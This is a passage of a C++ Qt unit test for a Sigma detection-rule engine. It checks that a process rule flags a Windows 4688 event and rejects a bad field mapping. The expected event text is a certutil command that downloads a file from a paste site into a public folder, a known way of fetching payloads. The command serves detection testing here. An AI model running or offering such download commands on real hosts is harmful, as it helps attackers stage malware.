    const QList<SigmaRule> certutil = loadRuleText(ruleYaml("process", cases.first().first), QStringLiteral("t.yml"));
    QCOMPARE(storeHits(store->db(), certutil, runRules(store->db(), certutil, mappings_)), int64_t(1));
    const SigmaDetail d =
        readSigmaDetail(store->db(), -queryInt(store->db(), "SELECT min(id) FROM sigma_hits").value_or(0));
    QVERIFY2(d.found, qPrintable(d.error));
    QCOMPARE(d.hits.size(), 1);
    QCOMPARE(d.hits[0].kind, QStringLiteral("Security event 4688"));
    QCOMPARE(d.hits[0].text,
             QStringLiteral("certutil.exe -urlcache -f https://paste.ee/r/Ab12 C:\\Users\\Public\\a.txt"));
    QCOMPARE(d.row.host, QStringLiteral("WS-CAROL.corp.example"));
    // A mapping may not give a 4688 name to a field of a source without 4688 events.
    QVERIFY_THROWS_EXCEPTION(std::runtime_error,
                             parseMappings("logsources:\n  - name: n\n    category: network_connection\n    source: "
                                           "sysmon:3\n    fields:\n      Image: {data: Image, security: "
                                           "NewProcessName}\n"));
}
